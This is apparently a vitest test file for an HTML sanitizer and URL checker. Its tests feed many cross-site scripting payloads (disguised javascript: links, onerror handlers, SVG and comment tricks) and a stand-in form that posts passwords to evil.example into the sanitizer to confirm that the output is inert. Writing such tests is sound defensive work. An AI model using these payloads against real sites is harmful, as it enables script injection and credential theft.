import { describe, expect, it } from 'vitest';
import { isSafeUrl, sanitizeHtml } from './sanitize';

describe('sanitizeHtml', () => {
  it('keeps the allowed tags and their allowed attributes', () => {
    const html =
      '<h2>Care</h2><p>Wash <strong>cold</strong>, <em>dry flat</em>.<br></p><ul><li>one</li></ul><ol><li>two</li></ol>' +
      '<blockquote>quote</blockquote><h3>More</h3><p><a href="https://example.com/a?b=1&amp;c=2">link</a> ' +
      '<a href="/pages/about">about</a> <a href="mailto:hello@vitrine.example">mail</a></p><img src="/media/a.webp" alt="A mug">';
    // Void elements come out in their self-closing spelling, which HTML reads the same.
    expect(sanitizeHtml(html)).toBe(
      '<h2>Care</h2><p>Wash <strong>cold</strong>, <em>dry flat</em>.<br /></p><ul><li>one</li></ul><ol><li>two</li></ol>' +
        '<blockquote>quote</blockquote><h3>More</h3><p><a href="https://example.com/a?b=1&amp;c=2">link</a> ' +
        '<a href="/pages/about">about</a> <a href="mailto:hello@vitrine.example">mail</a></p><img src="/media/a.webp" alt="A mug" />',
    );
  });

  it('drops scripts, styles and frames with everything inside them', () => {
    expect(sanitizeHtml('<p>a<script>alert(1)</script>b</p>')).toBe('<p>ab</p>');
    expect(sanitizeHtml('<SCRIPT type="x">alert(1)</SCRIPT >ok')).toBe('ok');
    expect(sanitizeHtml('<style>body{display:none}</style><p>x</p>')).toBe('<p>x</p>');
    expect(sanitizeHtml('<iframe src="https://evil.example"></iframe>t')).toBe('t');
    expect(sanitizeHtml('<svg><script>alert(1)</script></svg>t')).toBe('t');
    expect(sanitizeHtml('<script>never closed <p>hidden</p>')).toBe('');
  });

  it('removes event handlers, style and unknown attributes', () => {
    expect(sanitizeHtml('<p onclick="steal()" style="color:red" class="x" id="y">t</p>')).toBe('<p>t</p>');
    expect(sanitizeHtml('<img src="/a.png" onerror="alert(1)" alt="x">')).toBe('<img src="/a.png" alt="x" />');
    expect(sanitizeHtml('<img src=x onerror=alert(1)>')).toBe('<img src="x" />');
    expect(sanitizeHtml('<a href="/x" target="_blank" onmouseover=\'a()\'>t</a>')).toBe('<a href="/x">t</a>');
  });

  it('drops javascript:, data: and vbscript: addresses however they are disguised', () => {
    for (const href of [
      'javascript:alert(1)',
      'JAVASCRIPT:alert(1)',
      ' javascript:alert(1)',
      'java\tscript:alert(1)',
      'jav&#x61;script:alert(1)',
      'jav&#97;script:alert(1)',
      'javascript&colon;alert(1)',
      'data:text/html;base64,PHNjcmlwdD4=',
      'vbscript:msgbox(1)',
    ]) {
      expect(sanitizeHtml(`<a href="${href}">t</a>`), href).toBe('<a>t</a>');
    }
    expect(sanitizeHtml('<img src="data:image/png;base64,AAAA" alt="x">')).toBe('<img alt="x" />');
    expect(sanitizeHtml('<img src="mailto:a@b.c">')).toBe('<img />');
  });

  it('keeps the text of unknown tags and escapes stray angle brackets and ampersands', () => {
    expect(sanitizeHtml('<div><span>Hi</span></div>')).toBe('Hi');
    // character references are read, then written out again: only &, < and > need escaping in text
    expect(sanitizeHtml('1 < 2 & 3 > 2 &amp; &copy;')).toBe('1 &lt; 2 &amp; 3 &gt; 2 &amp; ©');
    // the broken tag is dropped; what is left is inert text
    expect(sanitizeHtml('<scr<script>ipt>alert(1)</script>')).toBe('ipt&gt;alert(1)');
    expect(sanitizeHtml('<<p>x</p>')).toBe('&lt;<p>x</p>');
  });

  it('drops comments and doctype, closes open tags and ignores stray closing tags', () => {
    expect(sanitizeHtml('<!-- <script>alert(1)</script> --><p>a')).toBe('<p>a</p>');
    expect(sanitizeHtml('<!DOCTYPE html><p>a</p></li></strong>')).toBe('<p>a</p>');
    expect(sanitizeHtml('<ul><li><strong>x</ul>y')).toBe('<ul><li><strong>x</strong></li></ul>y');
  });

  it('cannot break out of an attribute', () => {
    expect(sanitizeHtml('<a href=\'/x" onclick="alert(1)\'>t</a>')).toBe(
      '<a href="/x&quot; onclick=&quot;alert(1)">t</a>',
    );
    expect(sanitizeHtml('<img alt="&quot;><script>alert(1)</script>">')).toBe(
      '<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" />',
    );
  });
});

/** What `sanitizeHtml` may put out: these tags, each with only these attributes. */
const OUTPUT_TAGS: Record<string, readonly string[]> = {
  ...Object.fromEntries(
    ['p', 'strong', 'em', 'ul', 'ol', 'li', 'h2', 'h3', 'blockquote', 'br'].map((tag) => [tag, []]),
  ),
  a: ['href'],
  img: ['src', 'alt'],
};

/** Reads the character references an attribute value may hold, as a browser would. */
function decodeAttribute(value: string): string {
  const named: Record<string, string> = { amp: '&', quot: '"', lt: '<', gt: '>' };
  return value.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);/gi, (whole, ref: string) => {
    if (ref[0] !== '#') return named[ref.toLowerCase()] ?? whole;
    const code = ref[1] === 'x' || ref[1] === 'X' ? parseInt(ref.slice(2), 16) : parseInt(ref.slice(1), 10);
    return String.fromCodePoint(code);
  });
}

/**
 * What in `html` a browser could run or that is not allowed: anything but the allowed tags, written out
 * whole with their allowed attributes in double quotes, addresses with no scheme or an allowed one, and
 * text with no angle bracket left in it. Empty when the markup is inert.
 */
function unsafeParts(html: string): string[] {
  const found: string[] = [];
  const tag = /<(\/?)([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)( \/)?>/g;
  let last = 0;
  for (const match of html.matchAll(tag)) {
    if (/[<>]/.test(html.slice(last, match.index))) found.push(`bracket in text before ${match.index}`);
    last = match.index + match[0].length;
    const [whole, closing, name = '', attributes = ''] = match;
    const allowed = OUTPUT_TAGS[name];
    if (allowed === undefined || (closing && attributes !== '')) found.push(whole);
    for (const [, attribute = '', raw = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      if (!allowed?.includes(attribute)) found.push(`${name}[${attribute}]`);
      if (attribute !== 'href' && attribute !== 'src') continue;
      const address = decodeAttribute(raw)
        // eslint-disable-next-line no-control-regex -- control characters are what browsers ignore in a scheme
        .replace(/[\u0000-\u0020\u007f-\u009f]/g, '')
        .toLowerCase();
      const scheme = /^([a-z][a-z0-9+.-]*):/.exec(address)?.[1];
      const schemes = attribute === 'href' ? ['http', 'https', 'mailto'] : ['http', 'https'];
      if (scheme !== undefined && !schemes.includes(scheme)) found.push(`${name}[${attribute}=${raw}]`);
    }
  }
  if (/[<>]/.test(html.slice(last))) found.push('bracket in text after the last tag');
  return found;
}

describe('sanitizeHtml against hostile markup', () => {
  it('has a check that finds what could run', () => {
    expect(
      unsafeParts('<p>a &lt;b&gt;</p><br /><img src="/a.png" alt="x" /><a href="https://a.example">t</a>'),
    ).toEqual([]);
    for (const unsafe of [
      '<script>alert(1)</script>',
      '<img src="x" onerror="alert(1)" />',
      '<a href="&#106;avascript:alert(1)">t</a>',
      '<img src="data:image/png;base64,AAAA" />',
      '<svg onload=alert(1)>',
      '<p style="x">t</p>',
      'a <b',
    ]) {
      expect(unsafeParts(unsafe), unsafe).not.toEqual([]);
    }
  });

  it.each([
    // broken and nested tags
    ['<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
    ['<<script>script>alert(1)<</script>/script>', '&lt;/script&gt;'],
    ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
    ['<scri<!-- -->pt>alert(1)</script>', 'pt&gt;alert(1)'],
    ['<p <script>alert(1)</script>>t</p>', '<p>alert(1)&gt;t</p>'],
    ['<a href="/x"<img src=x onerror=alert(1)>t</a>', null],
    // SVG and MathML, with their scripts, handlers and animations
    ['<svg><script>alert(1)</script></svg>', ''],
    ['<svg onload=alert(1)>t', ''],
    ['<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>t', 't'],
    ['<svg><animate attributeName="href" values="javascript:alert(1)" /></svg>', ''],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
    ['<math href="javascript:alert(1)">x</math>', ''],
    // event handlers, however the tag is spelt
    ['<img src=x onerror=alert(1)>', '<img src="x" />'],
    ['<IMG SRC=x OnErRoR=alert(1)>', '<img src="x" />'],
    ['<img/src=x/onerror=alert(1)>', '<img src="x/onerror=alert(1)" />'],
    ['<img src="x" onerror="alert(1)"/>', '<img src="x" />'],
    ['<img src=x onerror=alert(1)//', ''],
    ['<p/onmouseover=alert(1)>t</p>', '<p>t</p>'],
    ['<a href="/x" onclick=alert(1) onfocus="alert(2)" autofocus>t</a>', '<a href="/x">t</a>'],
    ['<body onload=alert(1)>t</body>', 't'],
    // addresses that hide a script
    ['<a href="jav&#x09;ascript:alert(1)">t</a>', '<a>t</a>'],
    ['<a href="&#106;avascript:alert(1)">t</a>', '<a>t</a>'],
    ['<a href="&#x6A;avascript:alert(1)">t</a>', '<a>t</a>'],
    ['<a href="&#0000106;avascript:alert(1)">t</a>', '<a>t</a>'],
    ['<a href="javascript&#58;alert(1)">t</a>', '<a>t</a>'],
    ['<a href="java&NewLine;script:alert(1)">t</a>', '<a>t</a>'],
    ['<a href="&Tab;javascript:alert(1)">t</a>', '<a>t</a>'],
    ['<a href="  JaVaScRiPt:alert(1)">t</a>', '<a>t</a>'],
    ['<a href="\u0001javascript:alert(1)">t</a>', '<a>t</a>'],
    ['<a href=javascript:alert(1)>t</a>', '<a>t</a>'],
    ['<a href="data:text/html,<script>alert(1)</script>">t</a>', '<a>t</a>'],
    ['<img src="javascript:alert(1)">', '<img />'],
    ['<img src="  data:image/svg+xml,<svg onload=alert(1)>">', '<img />'],
    // style, as an attribute and as an element
    ['<p style="width: expression(alert(1))">t</p>', '<p>t</p>'],
    ['<p style="background:url(javascript:alert(1))">t</p>', '<p>t</p>'],
    ['<style>p{background:url(javascript:alert(1))}</style>t', 't'],
    ['<style>@import "https://evil.example/x.css";</style>t', 't'],
    // frames, objects and forms
    ['<iframe src="javascript:alert(1)">x</iframe>t', 't'],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>t', 't'],
    ['<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">t', 't'],
    ['<form action="javascript:alert(1)"><input name="q"><button>Go</button></form>', 'Go'],
    ['<form action="https://evil.example/steal" method="post"><input type="password" name="p"></form>t', 't'],
    ['<button formaction="javascript:alert(1)">Go</button>', 'Go'],
    ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">t', 't'],
    ['<base href="javascript:alert(1)//">t', 't'],
    // NUL and other control characters
    ['<scr\u0000ipt>alert(1)</script>', null],
    ['<a href="java\u0000script:alert(1)">t</a>', '<a>t</a>'],
    ['<img src=x o\u0000nerror=alert(1)>', null],
    ['<\u0000script>alert(1)</script>', null],
    // comments, CDATA and raw text that a browser reads otherwise than a pattern does
    ['<!-- <img src=x onerror=alert(1)>', ''],
    ['<p>a<!--b<script>alert(1)</script>', '<p>a</p>'],
    ['<!--><script>alert(1)</script>-->', '--&gt;'],
    ['<!---><img src=x onerror=alert(1)>-->', null],
    ['<!--[if IE]><script>alert(1)</script><![endif]-->t', 't'],
    ['<![CDATA[<script>alert(1)</script>]]>t', null],
    ['<![CDATA[', ''],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
    ['<xmp><img src=x onerror=alert(1)></xmp>t', 't'],
    ['<textarea><img src=x onerror=alert(1)></textarea>t', 't'],
    ['<title><img src=x onerror=alert(1)></title>t', 't'],
    ['<template><img src=x onerror=alert(1)></template>t', 't'],
    ['<select><option><img src=x onerror=alert(1)></option></select>t', 't'],
    ['<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['<?xml version="1.0"?><p>t</p>', '<p>t</p>'],
  ] as const)('%j', (input, expected) => {
    const output = sanitizeHtml(input);
    expect(unsafeParts(output)).toEqual([]);
    if (expected !== null) expect(output).toBe(expected);
  });

  it('finishes on a megabyte of hostile markup and leaves it inert', () => {
    const megabyte = 1 << 20;
    const fill = (unit: string) => unit.repeat(Math.ceil(megabyte / unit.length));
    for (const input of [
      fill('<scr<script>ipt>alert(1)</script>'),
      fill('<div><span>'),
      fill('<p><strong><em>x'),
      fill('<a href="javascript:alert(1)" onclick="x()">t'),
      fill('<img src=x onerror=alert(1)>'),
      fill('<!--'),
      fill('<![CDATA['),
      fill('&#106;'),
      fill('<'),
      `<a href="${'x'.repeat(megabyte)}`,
      `<p title="${fill('<script>alert(1)</script>')}">`,
      fill('<svg><script>'),
    ]) {
      expect(unsafeParts(sanitizeHtml(input))).toEqual([]);
    }
  });

  it('reads content up to its 20,000th tag and leaves out the rest', () => {
    expect(sanitizeHtml('<p>x</p>'.repeat(10_000))).toBe('<p>x</p>'.repeat(10_000));
    expect(sanitizeHtml('<p>x</p>'.repeat(10_001) + '<em>late</em>')).toBe('<p>x</p>'.repeat(10_000));
    expect(sanitizeHtml('<strong>'.repeat(30_000))).toBe('<strong>'.repeat(20_000) + '</strong>'.repeat(20_000));
  });
});

describe('isSafeUrl', () => {
  it('allows http, https, mailto links and relative addresses only', () => {
    expect(isSafeUrl('http://a.example', 'link')).toBe(true);
    expect(isSafeUrl('https://a.example', 'image')).toBe(true);
    expect(isSafeUrl('mailto:a@b.c', 'link')).toBe(true);
    expect(isSafeUrl('mailto:a@b.c', 'image')).toBe(false);
    expect(isSafeUrl('../x', 'link')).toBe(true);
    expect(isSafeUrl('#top', 'link')).toBe(true);
    expect(isSafeUrl('ftp://a', 'link')).toBe(false);
    expect(isSafeUrl('', 'link')).toBe(false);
  });

  it('sees through the disguises sanitizeHtml sees through', () => {
    expect(isSafeUrl('//cdn.example/a.png', 'image')).toBe(true);
    expect(isSafeUrl('/a?b=1&amp;c="2"', 'link')).toBe(true);
    expect(isSafeUrl(' \t\n', 'link')).toBe(false);
    for (const url of [
      'jav&#x61;script:alert(1)',
      '&#106;avascript:alert(1)',
      '  JaVaScRiPt:alert(1)',
      'java\u0000script:x',
      'data:image/png;base64,AAAA',
    ]) {
      expect(isSafeUrl(url, 'link'), url).toBe(false);
      expect(isSafeUrl(url, 'image'), url).toBe(false);
    }
  });
});
